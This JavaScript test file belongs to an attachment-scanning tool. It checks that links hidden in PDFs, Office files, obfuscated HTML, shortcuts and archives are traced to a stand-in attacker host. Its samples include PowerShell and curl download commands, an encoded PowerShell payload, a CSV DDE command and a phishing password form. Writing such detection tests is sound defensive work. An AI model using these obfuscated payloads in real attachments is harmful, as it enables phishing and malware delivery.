// Where files lead, and what they do when they are opened: documents, pages whose scripts are packed,
// shortcuts, files in files. Beside each kind an honest one that says nothing.
import test from "node:test";
import assert from "node:assert/strict";
import { deflateSync, gzipSync } from "node:zlib";
import { zipSync } from "fflate";
import { open } from "../../dist/whence.js";
import { withFile } from "../support/attached.mjs";

const whence = await open();
const T = "https://login.attacker.example.org/a";
const HOST = "login.attacker.example.org";
const base64 = (text) => Buffer.from(text).toString("base64");
const deflated = (text) => deflateSync(Buffer.from(text)).toString("latin1");

const attached = (...file) => whence.analyze(withFile(...file));
const hosts = ({ links }) => links.flatMap(({ host, targets }) => [host, ...targets.map((t) => t.host)]);
const ids = ({ findings }) => findings.filter(({ area }) => area === "attachments").map(({ id }) => id);
const leads = (what, ...file) =>
  test(`led on: ${what}`, async () => assert.ok(hosts(await attached(...file)).includes(HOST), what));

const pdf = (...objects) =>
  `%PDF-1.7\n${objects.map((o, i) => `${i + 1} 0 obj\n${o}\nendobj`).join("\n")}\ntrailer<</Root 1 0 R>>\n`;
leads(
  "PDF, an address in UTF-16",
  "a.pdf",
  pdf(`<</A<</S/URI/URI(\xfe\xff${[...T].map((c) => `\0${c}`).join("")})>>>>`),
);
leads("PDF, where a form goes", "a.pdf", pdf(`<</A<</S/SubmitForm/F(${T})>>>>`));
leads("PDF, a script", "a.pdf", pdf(`<</OpenAction<</S/JavaScript/JS(app.launchURL\\("${T}"\\))>>>>`));
leads(
  "PDF, in its words",
  "a.pdf",
  pdf(`<</Filter/FlateDecode>>\nstream\n${deflated(`BT (Open ${T} now) Tj ET`)}\nendstream`),
);

const objects = (filters, bytes) =>
  pdf(`<</Type/ObjStm/N 1/First 4${filters}>>\nstream\n${bytes}\nendstream`);
const action = `1 0 <</S/URI/URI(${T})>>`;
const inHex = (text) => `${Buffer.from(text, "latin1").toString("hex")}>`;
const twice = deflateSync(deflateSync(action)).toString("latin1");
leads("PDF, deflated twice", "a.pdf", objects("/Filter[/FlateDecode /FlateDecode]", twice));
leads("PDF, in hex", "a.pdf", objects("/Filter/ASCIIHexDecode", inHex(action)));
const both = objects("/Filter [/ASCIIHexDecode/FlateDecode]", inHex(deflated(action)));
leads("PDF, deflated, in hex", "a.pdf", both);
leads("PDF, names in numbers", "a.pdf", pdf(`<</A<</S/#55RI/U#52#49(${T})>>>>`));

const zip = (files) =>
  Buffer.from(
    zipSync(Object.fromEntries(Object.entries(files).map(([name, text]) => [name, Buffer.from(text)]))),
  );
const document = (files) => zip({ "[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>", ...files });
const relation = (target, tag = "Relationship ") =>
  `<Relationships><${tag}Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink'
 Target = '${target}' TargetMode="External"/></Relationships>`;
leads(
  "a document's relation",
  "a.docx",
  document({ "word/_rels/document.xml.rels": relation(T, "r:Relationship\n") }),
);
leads(
  "a document's field",
  "a.docx",
  document({ "word/document.xml": `<w:instrText> INCLUDEPICTURE "${T}" </w:instrText>` }),
);
leads(
  "a sheet's formula",
  "a.xlsx",
  zip({ "[Content_Types].xml": "<Types/>", "xl/sheet1.xml": `<f>HYPERLINK("${T}","x")</f>` }),
);
leads(
  "a page of XPS",
  "a.xps",
  zip({
    "[Content_Types].xml": "<Types/>",
    "Documents/1/Pages/1.fpage": `<Path FixedPage.NavigateUri="${T}"/>`,
  }),
);
const quoted = T.replace(":", "=3A").replace("g/", "g=\r\n/");
leads(
  "a card's value in quoted-printable",
  "a.vcf",
  `BEGIN:VCARD\r\nVERSION:2.1\r\nURL;ENCODING=QUOTED-PRINTABLE:${quoted}\r\nEND:VCARD\r\n`,
);
leads(
  "an old document",
  "a.doc",
  Buffer.concat([
    Buffer.from("d0cf11e0a1b11ae1", "hex"),
    Buffer.alloc(600),
    Buffer.from(`HYPERLINK "${T}"`, "utf16le"),
    Buffer.alloc(60),
  ]),
);
const numbered = T.replace("h", "\\'68").replaceAll("/", "\\'2f");
leads("rich text, letters in numbers", "a.rtf", `{\\rtf1{\\field{\\*\\fldinst HYPERLINK "${numbered}"}}}`);
leads("rich text", "a.rtf", `{\\rtf1{\\field{\\*\\fldinst HYPERLINK "${T}"}{\\fldrslt x}}}`);
leads(
  "OpenDocument",
  "a.odt",
  zip({
    mimetype: "x",
    "content.xml": `<text:a xlink:href="${T}">x</text:a>`,
    "META-INF/manifest.xml": "<m/>",
  }),
);

const page = (script, name = "a.html") => [
  name,
  `<html><body><p>Loading</p><script>${script}</script></body></html>`,
  "text/html",
];
const codes = (text) => [...text].map((c) => c.charCodeAt(0));
const hex = (c, n) => c.charCodeAt(0).toString(16).padStart(n, "0");
leads("a page's event", "a.html", `<body onload="location.href='${T}'">`, "text/html");
leads(
  "a page in an address",
  "a.html",
  `<iframe src="data:text/html;base64,${base64(`<form action="${T}">`)}"></iframe>`,
  "text/html",
);
leads("base64", ...page(`location=atob("${base64(T)}")`));
leads(
  "base64 of a page",
  ...page(`document.write(atob("${base64(`<form action="${T}"><input type=password></form>`)}"))`),
);
leads(
  "base64 in two pieces",
  ...page(`location=atob("${base64(T).slice(0, 20)}" + '${base64(T).slice(20)}')`),
);
leads(
  "percent-encoding",
  ...page(`document.write(unescape("${[...`<form action="${T}">`].map((c) => `%${hex(c, 2)}`).join("")}"))`),
);
leads("codes", ...page(`eval(String.fromCharCode(${codes(`location="${T}"`)}))`));
leads("escapes", ...page(`location="${[...T].map((c) => `\\x${hex(c, 2)}`).join("")}"`));
leads("escapes of four", ...page(`location="${[...T].map((c) => `\\u${hex(c, 4)}`).join("")}"`));
leads("two literals", ...page('location="https://login.att" + "acker.example.org/a"'));
leads("backwards", ...page(`location="${[...T].reverse().join("")}".split("").reverse().join("")`));
leads("a page in UTF-16", "a.html", Buffer.from(`\ufeff<a href="${T}">x</a>`, "utf16le"), "text/html");
leads(
  "a saved page",
  "a.mht",
  [
    "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=X\r\n",
    "--X\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n",
    `${base64(`<a href="${T}">x</a>`)}\r\n--X--`,
  ].join("\r\n"),
);

leads("a packed drawing", "a.svgz", gzipSync(`<svg><script>location="${T}"</script></svg>`), "image/svg+xml");
leads("a page in gzip", "a.html.gz", gzipSync(`<a href="${T}">x</a>`));
leads("a shortcut in a zip", "a.zip", zip({ "a.url": `[InternetShortcut]\r\nURL=${T}\r\n` }));
leads(
  "a document in a zip",
  "a.zip",
  zip({ "a.docx": document({ "word/_rels/document.xml.rels": relation(T) }) }),
);
leads("a PDF in a zip", "a.zip", zip({ "a.pdf": pdf(`<</A<</S/URI/URI(${T})>>>>`) }));

leads(
  "a shortcut to a program",
  "a.lnk",
  Buffer.concat([
    Buffer.from("4c0000000114020000000000c000000000000046", "hex"),
    Buffer.alloc(60),
    Buffer.from(`powershell iwr ${T}`, "utf16le"),
  ]),
);
leads("a script", "a.bat", `curl ${T}`);
leads(
  "a script, encoded",
  "a.ps1",
  `powershell -enc ${Buffer.from(`iwr ${T}`, "utf16le").toString("base64")}`,
);
leads("a table", "a.csv", `=HYPERLINK("${T}","x"),2\r\n`, "text/csv");
leads(
  "settings",
  "a.application",
  `<?xml version="1.0"?><assembly><deploymentProvider codebase="${T}"/></assembly>`,
);
leads(
  "a bookmark",
  "a.webloc",
  `<?xml version="1.0"?><!DOCTYPE plist SYSTEM "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist><string>${T}</string></plist>`,
);
leads("a share", "a.scf", `[Shell]\r\nIconFile=\\\\${HOST}\\share\\x.ico`);
leads(
  "a remote desktop, the other address",
  "a.rdp",
  `alternate full address:s:${HOST}\r\nfull address:s:rdp.example.jp\r\n`,
);

test("names of vocabularies are no addresses", async () => {
  for (const [name, content] of [
    [
      "a.svg",
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><path d="M0"/></svg>',
    ],
    [
      "a.xml",
      '<?xml version="1.0"?><a xmlns="http://schemas.example/"><b xmlns:dc="http://purl.org/dc/terms/"/></a>',
    ],
    [
      "a.docx",
      document({
        "word/document.xml": '<w xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
      }),
    ],
  ])
    assert.deepEqual(hosts(await attached(name, content)), [], name);
});

test("what files do, and what honest ones do not", async () => {
  const password = "<input type=password>";
  assert.ok(
    ids(await attached(...page(`document.write(atob("${base64(password)}"))`))).includes(
      "attachment-asks-password",
    ) ||
      ids(await attached(...page(`document.write(atob("${base64(password)}"))`))).includes(
        "attachment-assembles-file",
      ),
  );
  assert.ok(
    ids(await attached("a.html", `<body onload="location.href='${T}'">`, "text/html")).includes(
      "attachment-leads-away",
    ),
  );
  assert.ok(
    ids(
      await attached("a.xlsx", zip({ "[Content_Types].xml": "", "xl/macrosheets/sheet1.xml": "<x/>" })),
    ).includes("attachment-executable"),
  );
  assert.ok(
    ids(await attached("a.csv", "=cmd|'/c calc'!A1,2\r\n", "text/csv")).includes("attachment-executable"),
  );
  for (const file of [
    ["a.csv", "name,sum\r\nTaro,3\r\n", "text/csv"],
    ["a.xlsx", zip({ "[Content_Types].xml": "", "xl/sheet1.xml": "<x/>" })],
    ["a.txt", "base64 is written with 64 letters\r\n", "text/plain"],
    ["a.json", '{"a": [1, 2, 3, 4, 5, 6, 7, 8, 9]}', "application/json"],
  ])
    assert.deepEqual(ids(await attached(...file)), [], file[0]);
});

test("a page among many files is read; that others were not is said", async () => {
  const jpeg = Buffer.from("ffd8ffe000104a46494600", "hex");
  const others = Object.fromEntries(Array.from({ length: 9 }, (_, i) => [`photo${i}.jpg`, jpeg]));
  const among = await attached("a.zip", zip({ ...others, "letter.html": `<a href="${T}">x</a>` }));
  assert.ok(hosts(among).includes(HOST));
  const inner = zip({ "c.html": `<a href="${T}">x</a>` });
  const boxed = await attached("a.zip", zip({ ...others, "b.zip": inner }));
  assert.ok(hosts(boxed).includes(HOST));
  assert.deepEqual(among.unread, []);
  const pages = Object.fromEntries(Array.from({ length: 9 }, (_, i) => [`page${i}.html`, "<p>x"]));
  const texts = Object.fromEntries(Array.from({ length: 9 }, (_, i) => [`text${i}.txt`, "words"]));
  for (const files of [pages, texts]) {
    const { unread } = await attached("a.zip", zip(files));
    assert.deepEqual(unread.map(({ what, reason }) => `${what} ${reason}`), ["attachment too-many"]);
  }
});

test("what cannot be read is said", async () => {
  const reasons = async (...file) =>
    (await attached(...file)).unread.map(({ what, reason }) => `${what} ${reason}`);
  const sealed = (content) =>
    Buffer.concat([
      Buffer.from("d0cf11e0a1b11ae1", "hex"),
      Buffer.alloc(504),
      Buffer.from(content, "hex"),
      Buffer.alloc(100),
    ]);
  assert.deepEqual(await reasons("a.xls", sealed(`0908100000060500${"00".repeat(12)}2f003600`)), [
    "attachment encrypted",
  ]);
  assert.deepEqual(await reasons("a.doc", sealed(`eca5c100${"00".repeat(7)}01`)), ["attachment encrypted"]);
  assert.deepEqual(await reasons("a.bin", Buffer.from(`00010203${"ff".repeat(50)}`, "hex")), [
    "attachment unknown",
  ]);
  assert.deepEqual(await reasons("a.pst", Buffer.from(`2142444e${"00".repeat(50)}`, "hex")), [
    "attachment unknown",
  ]);
  for (const filters of ["/Filter/LZWDecode", "/Filter[/FlateDecode/Crypt]", "/Filter 9 0 R"])
    assert.deepEqual(await reasons("a.pdf", objects(filters, deflated(action))), ["attachment unknown"]);
  assert.deepEqual(await reasons("a.pdf", objects("/Filter/FlateDecode", deflated("1 0 <<>>"))), []);
  assert.deepEqual(await reasons("a.pdf", pdf("<</#45ncrypt 9 0 R>>")), ["attachment encrypted"]);
  const scan = pdf(
    "<</Type/Page>>",
    `<</Subtype/Image/Filter/DCTDecode>>\nstream\n\xff\xd8\xff\xe0${"x".repeat(300)}\nendstream`,
  );
  assert.ok((await reasons("a.pdf", scan)).includes("attachment image"));
  assert.deepEqual(
    await reasons(
      "a.pdf",
      pdf("<<>>\nstream\nBT (Minutes of the meeting, one page of words) Tj ET\nendstream"),
    ),
    [],
  );
});

test("a mail in a text file is a mail", async () => {
  const inner = [
    "Return-Path: <x@example.com>",
    "Received: from a.example.com by b.example.jp; Tue, 3 Feb 2026 10:00:00 +0900",
    "From: x@example.com\nTo: y@example.jp\nDate: Tue, 3 Feb 2026 10:00:00 +0900\nSubject: y\n",
    `See ${T}\n`,
  ].join("\n");
  for (const [name, content] of [
    ["mail.txt", inner],
    ["message", inner],
    ["a.emlx", `${inner.length}       \n${inner}`],
  ]) {
    const report = await attached(name, content, name.endsWith("txt") ? "text/plain" : undefined);
    assert.equal(report.enclosed.length, 1, name);
    assert.deepEqual([hosts(report), hosts(report.enclosed[0].report)], [[], [HOST]], name);
  }
  assert.equal(
    (await attached("notes.txt", "Subject: minutes\n\nWe met.\n", "text/plain")).enclosed.length,
    0,
  );
});
